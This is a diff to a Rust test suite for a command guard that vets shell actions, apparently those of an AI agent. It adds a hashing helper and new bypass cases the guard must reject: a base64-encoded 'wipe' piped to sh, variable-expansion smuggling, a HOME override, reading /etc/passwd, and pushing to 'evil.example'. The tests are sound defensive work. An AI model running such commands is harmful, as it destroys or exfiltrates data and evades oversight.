@@ -53,6 +53,13 @@ fn shell(command: &str) -> Action {
     Action::Shell { command: command.to_owned(), cwd: Some("/home/user/project".into()) }
 }
 
+/// What `sha256sum` prints.
+fn sha256(file: &std::path::Path) -> String {
+    use sha2::Digest as _;
+    let digest = sha2::Sha256::digest(fs::read(file).unwrap());
+    digest.iter().map(|byte| format!("{byte:02x}")).collect()
+}
+
 async fn decided(guard: &Guard, action: &Action, context: &Context) -> (Decision, String) {
     let verdict = guard.check(action, context).await;
     (verdict.decision, verdict.reason)
@@ -174,7 +181,7 @@ async fn program_is_known_by_its_file_and_its_words() {
         fs::write(&file, b"\x7fELF\x02\x01\x01\0\0").unwrap();
         fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
     }
-    let digest = context.environment.as_ref().unwrap().file_digest("/usr/local/bin/shipctl").unwrap();
+    let digest = sha256(&folder.path().join("usr/local/bin/shipctl"));
     let row = |program: &str, words: &str| {
         format!(
             "program = \"{program}\"\nwords = [{words}]\ndigest = \"{digest}\"\n[arguments]\n--env = {{ enum = [\"dev\"] }}\n\
@@ -220,6 +227,15 @@ async fn program_is_known_by_its_file_and_its_words() {
         "cd nowhere || shipctl push a.csv",
         "shipctl --help --env prod",
         "shipctl --force push a.csv",
+        "shipctl push a.csv; x=ctl; ship$x wipe b.csv",
+        "shipctl push a.csv; echo c2hpcGN0bCB3aXBlIGIuY3N2 | base64 -d | sh",
+        "shipctl push a.csv b.csv; export SHIP_TARGET=prod; shipctl push a.csv",
+        "HOME=/tmp/evil; shipctl push a.csv",
+        "shipctl push a.csv > >(shipctl wipe b.csv)",
+        "x=c; ${x}d /tmp/evil; shipctl push a.csv",
+        "shipctl push @/etc/passwd",
+        "shipctl push evil.example:/x",
+        "shipctl push -",
     ] {
         let (decision, reason) = decided(&guard, &shell(command), &context).await;
         assert_ne!(decision, Decision::Allow, "{command}: {reason}");
@@ -282,7 +298,7 @@ async fn draft_of_a_program_comes_from_its_commands_and_its_help() {
     fs::create_dir_all(file.parent().unwrap()).unwrap();
     fs::write(&file, b"\x7fELF\x02\x01\x01\0\0").unwrap();
     fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
-    let digest = context.environment.as_ref().unwrap().file_digest("/usr/local/bin/shipctl").unwrap();
+    let digest = sha256(&folder.path().join("usr/local/bin/shipctl"));
     let memory = Memory::in_memory("none", 4).unwrap();
     let guard = Guard::builder().memory(memory.clone()).build().unwrap();
     let mut approved = BTreeSet::new();
